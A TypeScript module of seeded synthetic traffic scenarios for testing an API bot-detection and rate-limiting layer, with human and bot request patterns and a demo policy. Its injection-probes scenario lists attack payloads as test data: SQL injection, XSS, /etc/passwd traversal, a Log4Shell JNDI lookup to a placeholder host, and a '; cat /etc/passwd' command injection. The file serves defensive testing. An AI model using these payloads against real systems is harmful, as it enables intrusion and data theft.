/**
 * Traffic scenarios with synthetic request times: minutes of traffic replay in seconds. Each scenario is seeded
 * and reproducible, and labels every request `human` or `bot` so a run can say what was caught and who was hurt.
 * The request shapes are plain data; the simulator turns them into API Gateway events.
 */

/** Mulberry32: a small, fast, seedable PRNG (reproducible runs). */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export type Credential =
  | { readonly kind: 'token'; readonly subject: string; readonly session?: string }
  | { readonly kind: 'forged'; readonly variant: number }
  | { readonly kind: 'none' };

export interface SimRequest {
  /** Milliseconds since the scenario started. */
  readonly at: number;
  readonly ip: string;
  readonly method: string;
  readonly resource: string;
  readonly path: string;
  readonly pathParameters?: Readonly<Record<string, string>>;
  readonly query?: Readonly<Record<string, string>>;
  readonly headers?: Readonly<Record<string, string>>;
  readonly credential: Credential;
  readonly label: 'human' | 'bot';
  /** What the backend answers when the request gets through. */
  readonly backendStatus: number;
}

export interface Scenario {
  readonly name: string;
  readonly description: string;
  /** How the bot is identified (stable identity: the 95%-denied target applies). */
  readonly stableBot: boolean;
  /**
   * The scenario's requests, sorted by time. `scale` shrinks every duration (and the surge's crowd) so a demo
   * fits in seconds; request rates stay the same, so the signals see the same behaviour for less time.
   * @default 1
   */
  readonly generate: (seed: number, scale?: number) => SimRequest[];
  /**
   * How the fleet changes during the scenario when it runs on more than one container: the pool starts at a
   * quarter of its size and scales out to all of it at `scaleOutAtMs` (scaled like the scenario's durations), and
   * one container is recycled every `recycleEveryMs`. Unset: a steady pool.
   */
  readonly fleet?: { readonly scaleOutAtMs?: number; readonly recycleEveryMs?: number };
}

const BROWSER_HEADERS = {
  'User-Agent':
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36',
  Accept: 'application/json',
  'Accept-Language': 'en-GB,en;q=0.9',
};
const SCRIPT_HEADERS = { 'User-Agent': 'python-requests/2.32.3', Accept: '*/*' };

const MINUTE = 60_000;

/** Exponential think time (ms) with the given mean: people pause irregularly. */
function think(rand: () => number, meanMs: number): number {
  return Math.max(300, -Math.log(1 - rand()) * meanMs);
}

function itemRequest(
  id: number,
  extra: Partial<SimRequest> & Pick<SimRequest, 'at' | 'ip' | 'credential' | 'label'>,
): SimRequest {
  return {
    method: 'GET',
    resource: '/items/{id}',
    path: `/items/${id}`,
    pathParameters: { id: String(id) },
    headers: BROWSER_HEADERS,
    backendStatus: 200,
    ...extra,
  };
}

/** People using the API through an app: irregular pauses, a mix of routes, the odd 404. */
function humans(
  rand: () => number,
  count: number,
  durationMs: number,
  ipFor: (u: number) => string,
  prefix = 'user',
  startMs = 0,
  scale = 1,
): SimRequest[] {
  const out: SimRequest[] = [];
  for (let u = 0; u < count; u += 1) {
    const subject = `${prefix}-${u}`;
    let t = startMs + rand() * 20_000 * scale;
    while (t < durationMs) {
      const r = rand();
      const base = {
        at: Math.round(t),
        ip: ipFor(u),
        credential: { kind: 'token', subject } as const,
        label: 'human' as const,
      };
      if (r < 0.6) {
        const id = 1 + Math.floor(rand() * 5000);
        out.push(itemRequest(id, { ...base, backendStatus: rand() < 0.03 ? 404 : 200 }));
      } else if (r < 0.85) {
        out.push({
          ...base,
          method: 'GET',
          resource: '/items',
          path: '/items',
          query: { page: String(1 + Math.floor(rand() * 5)) },
          headers: BROWSER_HEADERS,
          backendStatus: 200,
        });
      } else if (r < 0.95) {
        out.push({
          ...base,
          method: 'GET',
          resource: '/cart',
          path: '/cart',
          headers: BROWSER_HEADERS,
          backendStatus: 200,
        });
        out.push({
          ...base,
          at: base.at + 2000 + Math.round(rand() * 8000),
          method: 'POST',
          resource: '/checkout',
          path: '/checkout',
          headers: BROWSER_HEADERS,
          backendStatus: 200,
        });
      } else {
        out.push({
          ...base,
          method: 'HEAD',
          resource: '/items',
          path: '/items',
          headers: BROWSER_HEADERS,
          backendStatus: 200,
        });
      }
      t += think(rand, 9000);
    }
  }
  return out;
}

/** Many people browsing items at a steady pace (mean think time `thinkMs`), starting at random in the first 20 s. */
function steadyCrowd(
  rand: () => number,
  count: number,
  durationMs: number,
  ipFor: (u: number) => string,
  prefix: string,
  thinkMs: number,
): SimRequest[] {
  const out: SimRequest[] = [];
  for (let u = 0; u < count; u += 1) {
    for (let t = rand() * 20_000; t < durationMs; t += think(rand, thinkMs)) {
      out.push(
        itemRequest(1 + Math.floor(rand() * 5000), {
          at: Math.round(t),
          ip: ipFor(u),
          credential: { kind: 'token', subject: `${prefix}-${u}` },
          label: 'human',
          backendStatus: rand() < 0.03 ? 404 : 200,
        }),
      );
    }
  }
  return out;
}

const humanIp = (u: number) => `198.51.${100 + Math.floor(u / 250)}.${(u % 250) + 1}`;
const sorted = (xs: SimRequest[]) => xs.sort((a, b) => a.at - b.at);

export const SCENARIOS: readonly Scenario[] = [
  {
    name: 'human-users',
    description: '40 people browsing for 5 minutes from their own IPs',
    stableBot: false,
    generate: (seed, scale = 1) =>
      sorted(humans(prng(seed), 40, 5 * MINUTE * scale, humanIp, 'user', 0, scale)),
  },
  {
    name: 'nat-office',
    description: '150 people behind one office NAT IP for 5 minutes',
    stableBot: false,
    generate: (seed, scale = 1) =>
      sorted(humans(prng(seed), 150, 5 * MINUTE * scale, () => '192.0.2.10', 'office', 0, scale)),
  },
  {
    name: 'credential-stuffing',
    description:
      'A bot trying leaked passwords at the public login route, 3 per second from one IP, amid people',
    stableBot: true,
    generate: (seed, scale = 1) => {
      const rand = prng(seed);
      const out = humans(rand, 15, 4 * MINUTE * scale, humanIp, 'user', 0, scale);
      for (let u = 0; u < 15; u += 1) {
        out.push({
          at: Math.round(rand() * 4 * MINUTE * scale),
          ip: humanIp(u),
          method: 'POST',
          resource: '/login',
          path: '/login',
          headers: BROWSER_HEADERS,
          credential: { kind: 'none' },
          label: 'human',
          backendStatus: rand() < 0.2 ? 401 : 200,
        });
      }
      for (let t = 0; t < 4 * MINUTE * scale; t += 333 + Math.round(rand() * 40)) {
        out.push({
          at: t,
          ip: '203.0.113.45',
          method: 'POST',
          resource: '/login',
          path: '/login',
          headers: SCRIPT_HEADERS,
          credential: { kind: 'none' },
          label: 'bot',
          backendStatus: rand() < 0.01 ? 200 : 401,
        });
      }
      return sorted(out);
    },
  },
  {
    name: 'token-forgery',
    description: 'Brute-force token forgery: 5 forged tokens per second from one IP',
    stableBot: true,
    generate: (seed, scale = 1) => {
      const rand = prng(seed);
      const out = humans(rand, 15, 3 * MINUTE * scale, humanIp, 'user', 0, scale);
      let v = 0;
      for (let t = 0; t < 3 * MINUTE * scale; t += 200) {
        out.push(
          itemRequest(1 + Math.floor(rand() * 100), {
            at: t,
            ip: '203.0.113.66',
            credential: { kind: 'forged', variant: v++ },
            label: 'bot',
            headers: SCRIPT_HEADERS,
          }),
        );
      }
      return sorted(out);
    },
  },
  {
    name: 'token-sharing',
    description: 'One valid token used from 40 IPs at once (a leaked or resold session)',
    stableBot: true,
    generate: (seed, scale = 1) => {
      const rand = prng(seed);
      const out = humans(rand, 15, 4 * MINUTE * scale, humanIp, 'user', 0, scale);
      for (let t = 0; t < 4 * MINUTE * scale; t += 150 + Math.round(rand() * 100)) {
        const ip = `203.0.${113 + Math.floor(rand() * 4)}.${1 + Math.floor(rand() * 10) * 20}`;
        out.push(
          itemRequest(1 + Math.floor(rand() * 5000), {
            at: t,
            ip,
            credential: { kind: 'token', subject: 'shared-account' },
            label: 'bot',
          }),
        );
      }
      return sorted(out);
    },
  },
  {
    name: 'enumeration-scraper',
    description: 'A scraper walking /items/{id} in order with a valid token, 2 per second',
    stableBot: true,
    generate: (seed, scale = 1) => {
      const rand = prng(seed);
      const out = humans(rand, 15, 5 * MINUTE * scale, humanIp, 'user', 0, scale);
      let id = 1000;
      for (let t = 0; t < 5 * MINUTE * scale; t += 400 + Math.round(rand() * 200)) {
        out.push(
          itemRequest(id++, {
            at: t,
            ip: '203.0.113.80',
            credential: { kind: 'token', subject: 'scraper-1' },
            label: 'bot',
            backendStatus: rand() < 0.1 ? 404 : 200,
          }),
        );
      }
      return sorted(out);
    },
  },
  {
    name: 'distributed-surge',
    description:
      'After 4 calm minutes, 2,000 IPs hit the public catalogue at once while known users carry on',
    stableBot: false,
    generate: (seed, scale = 1) => {
      const rand = prng(seed);
      // The calm before the surge is never shorter than 3 minutes: the engine's baseline needs 150 s of
      // history, and clients first seen in the minute before a surge count as part of it.
      const surgeStart = 4 * MINUTE * Math.max(scale, 0.75);
      const out = humans(rand, 25, surgeStart + 3 * MINUTE * scale, humanIp, 'user', 0, scale);
      // The crowd and its spread shrink together: the surge's rate per second stays the same.
      const crowd = Math.max(50, Math.round(2000 * scale));
      for (let i = 0; i < crowd; i += 1) {
        const ip = `100.${64 + Math.floor(i / 250) * 3}.${Math.floor(i / 250) + 1}.${(i % 250) + 1}`;
        let t = surgeStart + rand() * 30_000 * scale;
        for (let k = 0; k < 5; k += 1) {
          out.push({
            at: Math.round(t),
            ip,
            method: 'GET',
            resource: '/catalog',
            path: '/catalog',
            headers: SCRIPT_HEADERS,
            credential: { kind: 'none' },
            label: 'bot',
            backendStatus: 200,
          });
          t += (2000 + rand() * 20_000) * scale;
        }
      }
      return sorted(out);
    },
  },
  {
    name: 'head-ratio-bot',
    description: 'A bot probing with HEAD requests (existence checks) with a valid token',
    stableBot: true,
    generate: (seed, scale = 1) => {
      const rand = prng(seed);
      const out = humans(rand, 15, 4 * MINUTE * scale, humanIp, 'user', 0, scale);
      for (let t = 0; t < 4 * MINUTE * scale; t += 600 + Math.round(rand() * 600)) {
        const id = 1 + Math.floor(rand() * 50_000);
        out.push(
          itemRequest(id, {
            at: t,
            ip: '203.0.113.90',
            method: rand() < 0.95 ? 'HEAD' : 'GET',
            credential: { kind: 'token', subject: 'head-prober' },
            label: 'bot',
            backendStatus: rand() < 0.5 ? 404 : 200,
          }),
        );
      }
      return sorted(out);
    },
  },
  {
    name: 'injection-probes',
    description: 'A scanner sending SQL injection, XSS, traversal, JNDI and command payloads',
    stableBot: true,
    generate: (seed, scale = 1) => {
      const rand = prng(seed);
      const out = humans(rand, 15, 3 * MINUTE * scale, humanIp, 'user', 0, scale);
      const payloads = [
        "' OR '1'='1",
        '1 UNION SELECT username,password FROM users--',
        '<script>alert(1)</script>',
        '../../../../etc/passwd',
        // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal Log4Shell probe, not a template
        '${jndi:ldap://203.0.113.1/a}',
        '; cat /etc/passwd',
        '"><img src=x onerror=alert(1)>',
        "1' AND SLEEP(5)--",
      ];
      let i = 0;
      for (let t = 0; t < 3 * MINUTE * scale; t += 1000 + Math.round(rand() * 1000)) {
        const p = payloads[i++ % payloads.length]!;
        out.push({
          at: t,
          ip: '203.0.113.120',
          method: 'GET',
          resource: '/items',
          path: '/items',
          query: { q: p },
          headers: SCRIPT_HEADERS,
          credential: { kind: 'token', subject: 'scanner' },
          label: 'bot',
          backendStatus: 400,
        });
      }
      return sorted(out);
    },
  },
  {
    name: 'low-and-slow',
    description: 'A patient scraper: one request every 4 s, metronome-regular, walking ids for an hour',
    stableBot: true,
    generate: (seed, scale = 1) => {
      const rand = prng(seed);
      // A few people alongside: the hour is about the bot, and the run must stay quick.
      const out = humans(rand, 4, 60 * MINUTE * scale, humanIp, 'user', 0, scale);
      let id = 5000;
      for (let t = 0; t < 60 * MINUTE * scale; t += 4000 + Math.round(rand() * 60)) {
        out.push(
          itemRequest(id++, {
            at: t,
            ip: '203.0.113.140',
            credential: { kind: 'token', subject: 'slow-bot' },
            label: 'bot',
          }),
        );
      }
      return sorted(out);
    },
  },
  {
    name: 'cold-start-crowd',
    description:
      '300 people, 10 requests/s in all, on containers that have just started, recycled every minute',
    stableBot: false,
    fleet: { recycleEveryMs: MINUTE },
    generate: (seed, scale = 1) => {
      const rand = prng(seed);
      // Think time ~30 s each: 300 people make about 10 requests a second together.
      return sorted(steadyCrowd(rand, 300, 5 * MINUTE * scale, humanIp, 'crowd', 30_000));
    },
  },
  {
    name: 'carrier-nat',
    description: '400 phone users behind 4 carrier NAT addresses: short bursts of app calls, long pauses',
    stableBot: false,
    generate: (seed, scale = 1) => {
      const rand = prng(seed);
      const out: SimRequest[] = [];
      const duration = 6 * MINUTE * scale;
      for (let u = 0; u < 400; u += 1) {
        const ip = `100.64.${10 + (u % 4)}.1`;
        let t = rand() * duration;
        // An app session: a burst of 2–6 calls within a second or two, then the phone goes back in a pocket.
        while (t < duration) {
          const calls = 2 + Math.floor(rand() * 5);
          for (let c = 0; c < calls; c += 1) {
            out.push(
              itemRequest(1 + Math.floor(rand() * 5000), {
                at: Math.round(t + c * (80 + rand() * 400)),
                ip,
                credential: { kind: 'token', subject: `phone-${u}` },
                label: 'human',
              }),
            );
          }
          t += 60_000 + rand() * 240_000;
        }
      }
      return sorted(out);
    },
  },
  {
    name: 'token-flood',
    description: 'One valid token at 10 requests/s amid people (a script replaying a session)',
    stableBot: true,
    generate: (seed, scale = 1) => {
      const rand = prng(seed);
      const out = humans(rand, 15, 3 * MINUTE * scale, humanIp, 'user', 0, scale);
      for (let t = 0; t < 3 * MINUTE * scale; t += 80 + Math.round(rand() * 40)) {
        out.push(
          itemRequest(1 + Math.floor(rand() * 5000), {
            at: t,
            ip: '203.0.113.150',
            credential: { kind: 'token', subject: 'replayer' },
            label: 'bot',
          }),
        );
      }
      return sorted(out);
    },
  },
  {
    name: 'scale-out-surge',
    description:
      '300 people steady for 4 minutes, then 4,000 new IPs join; the fleet scales out from a quarter to all of it',
    stableBot: false,
    fleet: { scaleOutAtMs: 4 * MINUTE },
    generate: (seed, scale = 1) => {
      const rand = prng(seed);
      const surgeStart = 4 * MINUTE * Math.max(scale, 0.75);
      const out = steadyCrowd(rand, 300, surgeStart + 2 * MINUTE * scale, humanIp, 'crowd', 30_000);
      const crowd = Math.max(100, Math.round(4000 * scale));
      for (let i = 0; i < crowd; i += 1) {
        const ip = `100.${80 + Math.floor(i / 250)}.${(i * 7) % 250}.${(i % 250) + 1}`;
        let t = surgeStart + rand() * 40_000 * scale;
        for (let k = 0; k < 3; k += 1) {
          out.push({
            at: Math.round(t),
            ip,
            method: 'GET',
            resource: '/catalog',
            path: '/catalog',
            headers: SCRIPT_HEADERS,
            credential: { kind: 'none' },
            label: 'bot',
            backendStatus: 200,
          });
          t += (3000 + rand() * 20_000) * scale;
        }
      }
      return sorted(out);
    },
  },
];

/**
 * The policy the scenarios (and the demo) run under: login is public with tight per-IP limits and fails closed,
 * the catalogue is public, checkout requires having seen the cart, `/admin/backup` is a honeypot.
 */
export const DEMO_POLICY = {
  mode: 'enforce',
  routes: [
    {
      match: 'POST /login',
      access: 'public',
      failMode: 'closed',
      thresholds: { ipPerShort: 10, ipPerLong: 40, invalidAuthPerIp: 8 },
    },
    { match: 'GET /catalog', access: 'public' },
    { match: 'GET /admin/backup', honeypot: true },
  ],
  journeys: [{ route: 'POST /checkout', after: 'GET /cart', withinSeconds: 900 }],
} as const;
